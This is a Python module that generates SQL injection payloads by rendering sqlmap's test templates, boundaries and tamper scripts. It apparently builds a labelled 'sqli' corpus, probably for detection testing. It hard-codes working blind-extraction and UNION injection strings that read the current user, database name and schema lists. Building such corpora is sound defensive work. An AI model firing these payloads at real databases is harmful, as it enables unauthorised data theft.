"""sqlmap's payloads as it sends them: each test template of ``data/xml/payloads/*.xml`` inside some of the boundaries
of ``data/xml/boundaries.xml`` it is compatible with, placeholders filled as sqlmap fills them, and for a share of
the rows one or two of its tamper scripts (``tamper/*.py``, run as sqlmap runs them) applied on top.

Each test yields its detection payload and, for the boolean, time and error tests, its exploitation vector with
``[INFERENCE]`` or ``[QUERY]`` filled in; UNION tests yield ``UNION ALL SELECT NULL,…`` rows of 1–10 columns.
"""

from __future__ import annotations

import importlib
import random
import re
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from .deliver import Payload

__all__ = ["payloads"]

_BOUNDARIES_PER_TEST = 3
_TAMPER_SHARE = 0.35
_INFERENCES = (
    "ORD(MID((SELECT IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),1,1))>64",
    "ASCII(SUBSTRING((SELECT COALESCE(CAST(current_database() AS VARCHAR(10000))::text,(CHR(32)))),1,1))>96",
    "UNICODE(SUBSTRING((SELECT ISNULL(CAST(DB_NAME() AS NVARCHAR(4000)),CHAR(32))),1,1))>80",
    "ASCII(SUBSTRC((SELECT NVL(CAST(USER AS NVARCHAR(4000)),CHR(32)) FROM DUAL),1,1))>70",
    "(SELECT COUNT(*) FROM information_schema.tables WHERE table_schema=0x7368)>0",
)
_QUERIES = (
    "SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0 END)",
    "SELECT MID((IFNULL(CAST(user() AS NCHAR),0x20)),1,54)",
    "SELECT DISTINCT(schema_name) FROM information_schema.SCHEMATA LIMIT 0,1",
    "SELECT version()",
)
_PCT = re.compile(r"%[0-9A-Fa-f]{2}")  # a tamper that adds these writes for the URL


@dataclass(frozen=True, slots=True)
class _Boundary:
    clause: frozenset[str]
    where: frozenset[str]
    prefix: str
    suffix: str


def _set(text: str | None) -> frozenset[str]:
    return frozenset(s.strip() for s in (text or "").split(",") if s.strip())


def _fill(template: str, rng: random.Random) -> str:
    values: dict[str, str] = {}

    def one(match: re.Match[str]) -> str:
        tag = match.group(1)
        if tag not in values:
            if tag.startswith("RANDNUM"):
                values[tag] = str(rng.randint(1000, 9999))
            elif tag.startswith("RANDSTR"):
                values[tag] = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(4))
            elif tag.startswith("DELIMITER"):
                values[tag] = "q" + "".join(rng.choice("jkpqvxz") for _ in range(3)) + "q"
            else:
                values[tag] = {
                    "SLEEPTIME": "5",
                    "ORIGVALUE": "1",
                    "ORIGINAL": "1",
                    "GENERIC_SQL_COMMENT": "-- -",
                    "SPACE_REPLACE": "_",
                    "DOLLAR_REPLACE": "$",
                    "AT_REPLACE": "@",
                    "HASH_REPLACE": "#",
                    "CHAR": "NULL",
                }.get(tag, "1")
        return values[tag]

    return re.sub(r"\[([A-Z_]+\d?)\]", one, template)


def _union(rng: random.Random) -> str:
    cols = rng.randint(1, 10)
    at = rng.randrange(cols)
    fields = ["NULL"] * cols
    fields[at] = "CONCAT(0x716b787a71,0x4f6a6c6e4d,0x7171706a71)"
    return "UNION ALL SELECT " + ",".join(fields)


def _tests(root: Path, rng: random.Random) -> Iterator[tuple[str, str, str, bool, frozenset[str], frozenset[str]]]:
    """(file, title, payload, has comment, clause, where) for each template and each exploitation vector."""
    for xml in sorted((root / "data/xml/payloads").glob("*.xml")):
        for test in ET.parse(xml).getroot().iter("test"):  # noqa: S314
            title = test.findtext("title") or ""
            clause, where = _set(test.findtext("clause")), _set(test.findtext("where"))
            comment = test.findtext("request/comment") or ""
            payload = test.findtext("request/payload") or ""
            vector = test.findtext("vector") or ""
            if vector == "[UNION]":
                payload = _union(rng)
            yield xml.name, title, (payload + comment).strip(), bool(comment), clause, where
            if "[INFERENCE]" in vector:
                yield xml.name, title, vector.replace("[INFERENCE]", rng.choice(_INFERENCES)), False, clause, where
            elif "[QUERY]" in vector:
                yield xml.name, title, vector.replace("[QUERY]", rng.choice(_QUERIES)), False, clause, where


def _boundaries(root: Path) -> list[_Boundary]:
    tree = ET.parse(root / "data/xml/boundaries.xml")  # noqa: S314
    return [
        _Boundary(
            _set(b.findtext("clause")),
            _set(b.findtext("where")),
            b.findtext("prefix") or "",
            b.findtext("suffix") or "",
        )
        for b in tree.getroot().iter("boundary")
    ]


def _tampers(root: Path) -> list[tuple[str, Callable[..., str]]]:
    sys.path.insert(0, str(root))  # tamper scripts import sqlmap's ``lib`` package as a top-level one
    found = []
    for script in sorted((root / "tamper").glob("*.py")):
        if script.stem == "__init__":
            continue
        try:
            module = importlib.import_module(f"tamper.{script.stem}")
        except Exception:  # noqa: S112 - a tamper that needs sqlmap's runtime state is skipped
            continue
        found.append((script.stem, module.tamper))
    return found


def payloads(root: Path, rng: random.Random) -> Iterator[Payload]:
    """Rendered payloads from the unpacked sqlmap package at ``root`` (the directory holding ``data/``)."""
    bounds = _boundaries(root)
    tampers = _tampers(root)
    random.seed(rng.random())
    for xml, title, template, commented, clause, where in _tests(root, rng):
        fits = [b for b in bounds if (b.clause & clause or "0" in b.clause | clause) and (b.where & where)]
        for b in rng.sample(fits, min(_BOUNDARIES_PER_TEST, len(fits))):
            mode = rng.choice(sorted(b.where & where))
            head = {"1": "1", "2": f"-{rng.randint(1000, 9999)}"}.get(mode, "")
            suffix = "" if commented else b.suffix  # as sqlmap does: a test's own comment replaces the suffix
            text = _fill(f"{head}{b.prefix} {template} {suffix}".strip(), rng)
            source = f"sqlmap {xml}: {title}"
            encoded = False
            if rng.random() < _TAMPER_SHARE and tampers:
                for name, fn in rng.sample(tampers, rng.randint(1, 2)):
                    try:
                        out = fn(text)
                    except Exception:  # noqa: S112 - as sqlmap does, a failing tamper leaves the payload
                        continue
                    if isinstance(out, str) and out:
                        encoded = encoded or len(_PCT.findall(out)) > len(_PCT.findall(text))
                        text, source = out, f"{source} + tamper {name}"
            yield Payload(text, "sqli", source, encoded=encoded)
